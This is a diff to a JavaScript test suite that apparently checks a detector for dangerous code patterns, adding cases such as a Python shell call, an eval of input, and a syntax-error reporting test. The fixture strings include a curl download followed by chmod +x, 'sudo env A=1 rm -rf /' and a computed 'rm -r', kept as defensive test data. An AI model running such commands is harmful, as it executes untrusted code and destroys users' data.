@@ -59,6 +59,9 @@ describe('names are followed', () => {
     ['lua', 'local e = os.execute\ne("ls")', 'lua-shell'],
     ['python', 'list(map(eval, input().split()))', 'py-eval'],
     ['javascript', 'globalThis[a + b](c)', 'js-hidden-name'],
+    ['python', 'from os import *\nsystem("ls")', 'py-shell'],
+    ['shell', "python3 -c 'eval(input())'", 'py-eval'],
+    ['shell', 'curl -o /tmp/x https://a.example && chmod +x /tmp/x', 'sh-download-run-inside'],
     ['javascript', '(() => {}).constructor("x")()', 'js-constructor'],
     ['shell', 'sudo env A=1 rm -rf /', 'sh-remove-everything'],
     ['shell', 'find . | xargs rm -r "$X"', 'sh-remove-computed'],
@@ -95,6 +98,17 @@ describe('answers', () => {
       ['nobody_knows_it', 'unknown'],
     ]);
     expect(suggestions[0]).toContain('torch cannot be had here');
+  });
+
+  test.each([
+    ['python', 'def f(:\n  pass', 1],
+    ['javascript', 'let = 1;\nfunction (', 1],
+    ['lua', 'x = 1\ny', 2],
+    ['shell', 'if true; then', 1],
+    ['typescript', 'import fs = require("fs");', 0],
+  ])('faults of syntax have their place: %s %s', (language, code, line) => {
+    const [first] = read(language, code).syntaxErrors;
+    expect(first?.at.line ?? 0).toBe(line);
   });
 
   test('hosts and paths are told where they are written out', () => {
